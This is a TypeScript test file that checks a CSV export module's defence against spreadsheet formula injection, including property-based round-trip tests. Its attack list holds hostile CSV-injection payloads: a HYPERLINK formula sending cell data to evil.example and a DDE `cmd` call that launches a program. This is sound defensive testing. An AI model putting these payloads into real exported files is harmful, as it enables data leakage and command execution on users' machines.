import { parse } from 'csv-parse/sync'
import fc from 'fast-check'
import t from 'tap'
import { rearm, writeCsv } from '../../../src/portal/exports/csv.ts'

/** Reads CSV as any reader of RFC 4180 with semicolons would, with apostrophes. */
const readRaw = (csv: string): string[][] => parse(csv, { delimiter: ';', record_delimiter: '\r\n' })

const starts = ['=', '+', '-', '@', '\t', '\r', '\n', '\0', '＝', '＋', '－', '＠', '\r\n=', '\0+']
const attacks = starts.flatMap((start) => [
  start,
  `${start}1+1`,
  `${start}HYPERLINK("https://evil.example?x="&A1;"Facture")`,
  `${start}cmd|' /C calc'!A0`,
  `'${start}1`,
  `''${start}1`,
])

t.test('no cell begins as a formula does (S40)', async (t) => {
  for (const [cell] of readRaw(writeCsv(attacks.map((attack) => [attack])))) {
    t.notMatch(cell, /^[=+\-@\t\r\n\0＝＋－＠]/, JSON.stringify(cell))
    t.match(cell, /^'/)
  }
})

t.test('what needs no disarming is written as it is (S40)', async (t) => {
  const plain = ['', '249,00', '2026-118', 'l’atelier', "l'atelier", '06 12 34 56 78', 'a=b', ' =1', '"']
  t.strictSame(readRaw(writeCsv([plain])), [plain])
})

t.test('every text comes back from the file as it was, formulas too (S40)', async (t) => {
  for (const attack of attacks) t.equal(rearm(readRaw(writeCsv([[attack, 'x']]))[0]![0]!), attack)
  const cell = fc.oneof(
    fc.string({ unit: 'binary' }),
    fc.constantFrom(...attacks),
    fc.string({ unit: fc.constantFrom("'", '"', ';', ',', '\r', '\n', '=', '-', 'é', ' ') }),
  )
  const tables = fc
    .integer({ min: 2, max: 4 })
    .chain((width) =>
      fc.array(fc.array(cell, { minLength: width, maxLength: width }), { minLength: 1, maxLength: 6 }),
    )
  fc.assert(
    fc.property(tables, (rows) => {
      const read = readRaw(writeCsv(rows)).map((row) => row.map(rearm))
      return JSON.stringify(read) === JSON.stringify(rows)
    }),
    { numRuns: 500 },
  )
})
